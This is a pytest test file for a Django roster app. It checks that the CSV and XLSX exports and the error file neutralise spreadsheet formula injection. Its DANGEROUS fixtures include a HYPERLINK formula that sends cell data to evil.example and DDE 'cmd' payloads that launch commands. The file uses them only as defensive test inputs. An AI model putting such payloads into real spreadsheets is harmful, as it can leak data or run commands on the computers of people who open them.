"""Exported cells are inert: a value that a spreadsheet would run as a formula
(`=HYPERLINK(...)`, `+cmd`, `@SUM`, a leading tab) opens as the text it is, in
every export, and the round trip through the importer still changes nothing."""

import csv
from io import StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from booths.models import Person
from tests.booths.sheets import booth_row, caller_row, write_sheet

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture(autouse=True)
def _english(settings):
    settings.LANGUAGE_CODE = "en"


def run(command: str, *args: str) -> str:
    out = StringIO()
    call_command(command, *args, stdout=out)
    return out.getvalue()


@pytest.fixture
def roster(tmp_path):
    rows = [booth_row(n, president_name=text, booth_name=text) for n, text in enumerate(DANGEROUS, start=1)]
    run("import_roster", str(write_sheet(tmp_path / "roster.csv", rows)))
    assert set(Person.objects.values_list("name", flat=True)) == set(DANGEROUS)


def test_the_roster_csv_quotes_formulas_and_the_round_trip_changes_nothing(tmp_path, roster):
    path = tmp_path / "export.csv"
    run("export_roster", "--output", str(path))
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert {row["president_name"] for row in rows} == {"'" + text for text in DANGEROUS}
    assert all(not row[column].startswith(("=", "+", "-", "@")) for row in rows for column in row)
    assert {row["president_phone"] for row in rows} == {f"98{n:08d}" for n in range(1, 5)}  # numbers stay numbers
    assert "No changes" in run("import_roster", str(path))


def test_the_roster_xlsx_types_formulas_as_text_and_the_round_trip_changes_nothing(tmp_path, roster):
    path = tmp_path / "export.xlsx"
    run("export_roster", "--output", str(path))
    sheet = load_workbook(path).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    names = [row[headers.index("president_name")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in names} == set(DANGEROUS)  # the text itself, no apostrophe to see
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)  # never "f" (formula)
    assert "No changes" in run("import_roster", str(path))


def test_the_callers_export_and_the_error_file_quote_formulas(tmp_path):
    run("import_roster", str(write_sheet(tmp_path / "roster.csv", [booth_row(1)])))
    run("import_callers", str(write_sheet(tmp_path / "callers.csv", [caller_row(name=HYPERLINK)])))
    path = tmp_path / "callers-export.csv"
    run("export_callers", "--output", str(path))
    assert f"'{HYPERLINK}".replace('"', '""') in path.read_text(encoding="utf-8-sig")

    bad = write_sheet(tmp_path / "bad.csv", [caller_row(name=HYPERLINK, phone="9822233344", districts="=cmd")])
    errors = tmp_path / "bad.errors.csv"
    run("import_callers", str(bad), "--skip-invalid", "--errors", str(errors))
    with errors.open(encoding="utf-8-sig", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["name"] == "'" + HYPERLINK and row["districts"] == "'=cmd"
